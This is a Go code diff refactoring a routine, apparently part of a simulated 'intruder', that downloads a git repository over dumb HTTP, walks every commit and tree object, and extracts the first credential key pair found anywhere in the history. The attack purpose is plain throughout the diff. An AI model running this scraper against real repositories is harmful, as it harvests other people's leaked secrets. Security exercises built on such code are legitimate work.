@@ -55,7 +55,17 @@ func leakIntruder(ctx context.Context, env Env) error {
 }
 
 func leakOnce(env Env) error {
-	creds, err := scrapeKeys(env("GIT") + env("REPO"))
+	hc := &http.Client{Timeout: 10 * time.Second}
+	repo := env("GIT") + env("REPO")
+	refs, err := fetchText(hc, repo+"/info/refs")
+	if err != nil {
+		return err
+	}
+	head, _, _ := strings.Cut(refs, "\t")
+	creds, err := scrapeKeys(head, func(path string) ([]byte, error) {
+		b, err := fetchText(hc, repo+"/"+path)
+		return []byte(b), err
+	})
 	if err != nil {
 		return err
 	}
@@ -71,15 +81,10 @@ func leakOnce(env Env) error {
 	return err
 }
 
-// scrapeKeys walks every commit of a repository over dumb HTTP and takes
-// the first key pair it finds in any file of any version.
-func scrapeKeys(repo string) (*client.Credentials, error) {
-	hc := &http.Client{Timeout: 10 * time.Second}
-	refs, err := fetchText(hc, repo+"/info/refs")
-	if err != nil {
-		return nil, err
-	}
-	head, _, _ := strings.Cut(refs, "\t")
+// scrapeKeys walks every commit of a repository from head, reading
+// objects with fetch (a path like objects/ab/cdef...), and takes the first
+// key pair it finds in any file of any version.
+func scrapeKeys(head string, fetch func(path string) ([]byte, error)) (*client.Credentials, error) {
 	seen := map[string]bool{}
 	queue := []string{strings.TrimSpace(head)}
 	for len(queue) > 0 {
@@ -89,11 +94,11 @@ func scrapeKeys(repo string) (*client.Credentials, error) {
 			continue
 		}
 		seen[id] = true
-		raw, err := fetchText(hc, repo+"/objects/"+id[:2]+"/"+id[2:])
+		raw, err := fetch("objects/" + id[:2] + "/" + id[2:])
 		if err != nil {
 			return nil, err
 		}
-		kind, body, err := apps.ReadObject([]byte(raw))
+		kind, body, err := apps.ReadObject(raw)
 		if err != nil {
 			return nil, err
 		}
@@ -115,7 +120,7 @@ func scrapeKeys(repo string) (*client.Credentials, error) {
 			}
 		}
 	}
-	return nil, fmt.Errorf("no keys in %s", repo)
+	return nil, fmt.Errorf("no keys in the history")
 }
 
 func treeEntries(body []byte) []string {
